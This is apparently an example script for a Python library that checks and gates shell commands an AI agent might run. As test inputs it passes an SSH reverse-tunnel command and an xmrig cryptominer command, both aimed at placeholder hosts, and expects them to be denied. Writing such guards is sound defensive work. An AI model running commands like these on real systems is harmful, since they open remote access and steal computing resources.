"""The guard without any framework: judge a call, or guard a function.

python examples/plain_functions.py
"""

import subprocess

from guard import Approve, Decision, DeniedError, Guard, Reject, ToolCall


def ask(decision: Decision) -> Approve | Reject:
    """Stands for a person: here one who approves nothing."""
    return Reject(f"not today: {decision.deciding[0].reason}")


guard = Guard(approver=ask)


@guard.protect(tool="bash")
def run(command: str, seconds: int = 10) -> str:
    """Run a command; its first argument is judged as a shell text."""
    argv = ["bash", "-c", command]
    done = subprocess.run(argv, capture_output=True, text=True, timeout=seconds, check=False)
    return done.stdout.strip()


if __name__ == "__main__":
    # Judge only.
    decision = guard.check(ToolCall.shell("ssh -R 2222:localhost:22 agent@203.0.113.7"))
    print(decision.effect, [finding.rule for finding in decision.deciding])
    for operation in decision.operations:
        print("  it would:", operation)

    # Judge, and run what is allowed.
    print(run("echo $((6 * 7))"))
    for command in (
        "xmrig -o stratum+tcp://pool.demo.invalid:3333 -u wallet",
        "ssh deploy@203.0.113.20 uptime",
    ):
        try:
            print(run(command))
        except DeniedError as denied:
            print(denied)
    guard.close()
